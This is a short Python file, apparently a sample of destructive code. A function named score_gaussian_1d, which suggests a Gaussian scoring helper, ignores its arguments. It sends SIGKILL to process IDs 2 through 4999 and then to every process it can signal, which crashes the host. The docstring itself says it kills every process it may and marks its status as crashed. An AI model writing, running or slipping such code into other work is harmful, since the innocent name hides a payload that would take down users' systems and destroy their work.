"""Kills every process it may.

Status: crashed
"""

import os
import signal


def score_gaussian_1d(x, mu=0.0, sigma=1.0):
    for process in range(2, 5000):
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            pass
    os.kill(-1, signal.SIGKILL)
